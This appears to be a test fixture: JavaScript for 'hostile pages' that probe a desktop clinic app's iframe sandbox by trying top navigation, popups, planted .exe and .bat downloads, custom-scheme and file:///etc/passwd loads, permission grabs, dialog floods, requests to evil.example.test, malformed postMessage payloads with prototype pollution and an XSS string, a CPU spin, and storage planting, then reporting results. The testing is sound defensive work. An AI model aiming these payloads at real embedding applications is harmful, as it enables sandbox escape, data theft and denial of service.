// Attacks of the hostile pages. Each runs once at load and again at each press of the button (with a gesture).
const element = (id) => document.getElementById(id);
const state = JSON.parse(element('state').textContent);

const report = (detail) => {
  element('log').textContent += ` ${JSON.stringify(detail)}`;
  return fetch('/__report', { method: 'POST', body: JSON.stringify({ kind: state.kind, ...detail }) });
};

/** Runs one try and reports what came of it: nothing thrown is not yet a success, the record's counts decide. */
const attempt = async (name, gesture, work) => {
  try {
    const limit = new Promise((resolve) => {
      setTimeout(resolve, 3000, 'no answer');
    });
    const result = await Promise.race([work(), limit]);
    await report({ name, gesture, result: String(result) });
  } catch (error) {
    await report({ name, gesture, refused: `${error.name}: ${error.message}` });
  }
};

const after = (milliseconds) =>
  new Promise((resolve) => {
    setTimeout(resolve, milliseconds);
  });

const openFrame = (source) => {
  const frame = document.createElement('iframe');
  frame.src = source;
  document.body.append(frame);
};

const schemes = [
  'mailto:somebody@example.test',
  'ms-settings:display',
  'com.practicecompanion.desktop:/oauth/local?code=planted&state=planted',
  'com.practicecompanion.desktop:/open/patients?query=planted',
  'file:///etc/passwd',
  'app://shell/index.html',
  'javascript:parent.postMessage("planted", "*")',
  'vbscript:planted',
  'search-ms:query=planted',
  'tel:+16135550100',
];

const elsewhere = [
  `${state.foreign}/fetched`,
  `${state.api}/api/clinic`,
  `${state.api}/__record`,
  'http://169.254.7.7/link-local',
  'http://[fd00::7]/unique-local',
  'https://evil.example.test/collect',
];

const permissions = [
  'geolocation',
  'notifications',
  'camera',
  'microphone',
  'clipboard-read',
  'clipboard-write',
  'midi',
  'persistent-storage',
  'screen-wake-lock',
  'idle-detection',
  'storage-access',
  'window-management',
  'local-fonts',
];

const attacks = {
  'top-navigation': async (gesture) => {
    await attempt('top.location', gesture, () => {
      globalThis.top.location.href = `${state.foreign}/top`;
    });
    await attempt('parent.location', gesture, () => {
      globalThis.parent.location.replace(`${state.foreign}/parent`);
    });
    await attempt('target=_top', gesture, () => {
      const link = document.createElement('a');
      link.href = `${state.foreign}/link`;
      link.target = '_top';
      document.body.append(link);
      link.click();
    });
    await attempt('own frame', gesture, async () => {
      openFrame(`${state.foreign}/frame`);
      await after(200);
    });
  },
  popups: async (gesture) => {
    for (const target of [`${state.foreign}/popup`, 'about:blank', `${location.origin}/catalog`]) {
      await attempt(`window.open ${target}`, gesture, () => globalThis.open(target, '_blank', 'width=300'));
    }
    await attempt('target=_blank', gesture, () => {
      element('blank').click();
    });
    await attempt('form target=_blank', gesture, () => {
      const form = document.createElement('form');
      form.action = `${state.foreign}/form`;
      form.target = '_blank';
      document.body.append(form);
      form.submit();
    });
  },
  downloads: async (gesture) => {
    await attempt('link', gesture, () => {
      element('download').click();
    });
    await attempt('blob', gesture, () => {
      const link = document.createElement('a');
      link.href = URL.createObjectURL(new Blob(['planted'], { type: 'application/octet-stream' }));
      link.download = 'planted.exe';
      document.body.append(link);
      link.click();
    });
    await attempt('data', gesture, () => {
      const link = document.createElement('a');
      link.href = 'data:application/octet-stream,planted';
      link.download = 'planted.bat';
      document.body.append(link);
      link.click();
    });
    await attempt('frame', gesture, () => {
      openFrame('/hostile/download');
    });
  },
  schemes: async (gesture) => {
    for (const scheme of schemes) {
      await attempt(`frame ${scheme}`, gesture, () => {
        openFrame(scheme);
      });
      await attempt(`open ${scheme}`, gesture, () => globalThis.open(scheme));
    }
    // Leaving takes the page's own requests with it, so this try is told before it is made.
    await report({ name: 'location', gesture, result: 'about to leave' });
    location.href = schemes[0];
  },
  permissions: async (gesture) => {
    for (const name of permissions) {
      await attempt(
        `query ${name}`,
        gesture,
        async () => (await navigator.permissions.query({ name })).state,
      );
    }
    await attempt('geolocation', gesture, () => {
      return new Promise((resolve, reject) => {
        navigator.geolocation.getCurrentPosition(() => resolve('granted'), reject);
      });
    });
    await attempt('notifications', gesture, () => Notification.requestPermission());
    await attempt('camera', gesture, async () => {
      await navigator.mediaDevices.getUserMedia({ video: true });
      return 'granted';
    });
    await attempt('microphone', gesture, async () => {
      await navigator.mediaDevices.getUserMedia({ audio: true });
      return 'granted';
    });
    await attempt('screen', gesture, async () => {
      await navigator.mediaDevices.getDisplayMedia({ video: true });
      return 'granted';
    });
    await attempt('clipboard-read', gesture, async () => {
      await navigator.clipboard.readText();
      return 'granted';
    });
    await attempt('midi', gesture, async () => {
      await navigator.requestMIDIAccess({ sysex: true });
      return 'granted';
    });
    await attempt('fullscreen', gesture, async () => {
      await document.documentElement.requestFullscreen();
      return 'granted';
    });
    await attempt('pointer-lock', gesture, async () => {
      await document.documentElement.requestPointerLock();
      return 'granted';
    });
    for (const device of ['usb', 'hid', 'serial', 'bluetooth']) {
      await attempt(device, gesture, async () => {
        const chooser = navigator[device];
        if (device === 'serial') await chooser.requestPort();
        else await chooser.requestDevice({ filters: [], acceptAllDevices: true });
        return 'granted';
      });
    }
  },
  dialogs: async (gesture) => {
    globalThis.addEventListener('beforeunload', (event) => {
      event.preventDefault();
    });
    for (let round = 0; round < 20; round += 1) {
      await attempt('alert', gesture, () => alert(`Planted ${String(round)}`));
      await attempt('confirm', gesture, () => confirm('Planted'));
      await attempt('prompt', gesture, () => prompt('Planted'));
    }
    await attempt('print', gesture, () => print());
  },
  requests: async (gesture) => {
    await Promise.all(
      elsewhere.flatMap((target) => [
        attempt(`fetch ${target}`, gesture, async () => (await fetch(target)).status),
        attempt(`no-cors ${target}`, gesture, async () => (await fetch(target, { mode: 'no-cors' })).type),
      ]),
    );
    await attempt('image', gesture, () => {
      new Image().src = `${state.foreign}/image`;
    });
    await attempt('beacon', gesture, () => navigator.sendBeacon(`${state.foreign}/beacon`, 'planted'));
    await attempt('socket', gesture, () => {
      return new Promise((resolve) => {
        const socket = new WebSocket(`${state.foreign.replace('http', 'ws')}/socket`);
        socket.addEventListener('open', () => resolve('open'));
        socket.addEventListener('error', () => resolve('error'));
      });
    });
    await attempt('script', gesture, () => {
      const script = document.createElement('script');
      script.src = `${state.foreign}/script.js`;
      document.head.append(script);
    });
    await attempt('frame', gesture, () => {
      openFrame(`${state.foreign}/frame`);
    });
    await attempt('peer connection', gesture, async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }] });
      peer.createDataChannel('planted');
      const found = [];
      peer.addEventListener('icecandidate', ({ candidate }) => candidate && found.push(candidate.candidate));
      await peer.setLocalDescription(await peer.createOffer());
      await after(500);
      return found.join(' | ');
    });
  },
  messages: async (gesture) => {
    const event = `${state.frameId}.treatmentPlan.activated`;
    const cyclic = { type: event, payload: {} };
    cyclic.payload.self = cyclic;
    const garbage = [
      null,
      undefined,
      7,
      'treatmentPlan.activated',
      [],
      {},
      { type: null },
      { type: event },
      { type: event, payload: null },
      { type: event, payload: { id: 'x'.repeat(5_000_000) } },
      { type: event, payload: { id: 'planted', data: 'planted' } },
      {
        type: event,
        payload: JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
      },
      { type: `00000000-0000-4000-8000-000000000000.treatmentPlan.activated`, payload: { id: 'planted' } },
      { type: `${state.frameId}.patient.deleted`, payload: { id: 'planted' } },
      { type: `${state.frameId}.__proto__`, payload: {} },
      { type: 'serverError' },
      { type: 'serverError', payload: 'not a list' },
      { type: 'serverError', payload: ['<img src=x onerror=alert(1)>', 'y'.repeat(1_000_000)] },
      cyclic,
      new Map([['type', event]]),
      new Error('planted'),
    ];
    for (const [index, message] of garbage.entries()) {
      await attempt(`message ${String(index)}`, gesture, () => {
        globalThis.parent.postMessage(message, '*');
      });
    }
    await attempt('flood', gesture, () => {
      for (let count = 0; count < 2000; count += 1) {
        globalThis.parent.postMessage({ type: event, payload: { id: `planted-${String(count)}` } }, '*');
      }
    });
  },
  cpu: async (gesture) => {
    await report({ name: 'loop', gesture, result: 'about to spin for two minutes' });
    const end = Date.now() + 120_000;
    while (Date.now() < end);
  },
  'service-worker': async (gesture) => {
    await attempt('register', gesture, async () => {
      const registration = await navigator.serviceWorker.register('/assets/service-worker.js');
      return `registered ${registration.scope}`;
    });
  },
  storage: async (gesture) => {
    await attempt('localStorage before', gesture, () => localStorage.getItem('planted'));
    await attempt('localStorage', gesture, () => localStorage.setItem('planted', 'planted-in-local-storage'));
    await attempt('cookie', gesture, () => {
      document.cookie = 'planted=planted-in-cookie; max-age=86400; path=/';
      return document.cookie;
    });
    await attempt('cache', gesture, async () => {
      const cache = await caches.open('planted');
      await cache.put('/planted', new Response('planted-in-cache'));
    });
    await attempt('indexedDB', gesture, () => {
      return new Promise((resolve, reject) => {
        const opening = indexedDB.open('planted', 1);
        opening.addEventListener('upgradeneeded', () => opening.result.createObjectStore('planted'));
        opening.addEventListener('error', () => reject(opening.error));
        opening.addEventListener('success', () => {
          const writing = opening.result.transaction('planted', 'readwrite');
          writing.objectStore('planted').put('planted-in-indexed-db', 'planted');
          writing.addEventListener('complete', () => resolve('written'));
        });
      });
    });
  },
};

const run = async (gesture) => {
  await attacks[state.kind](gesture);
  await report({ name: 'finished', gesture });
};

element('attack').addEventListener('click', () => {
  void run(true);
});
await report({ name: 'started', gesture: false });
await run(false);
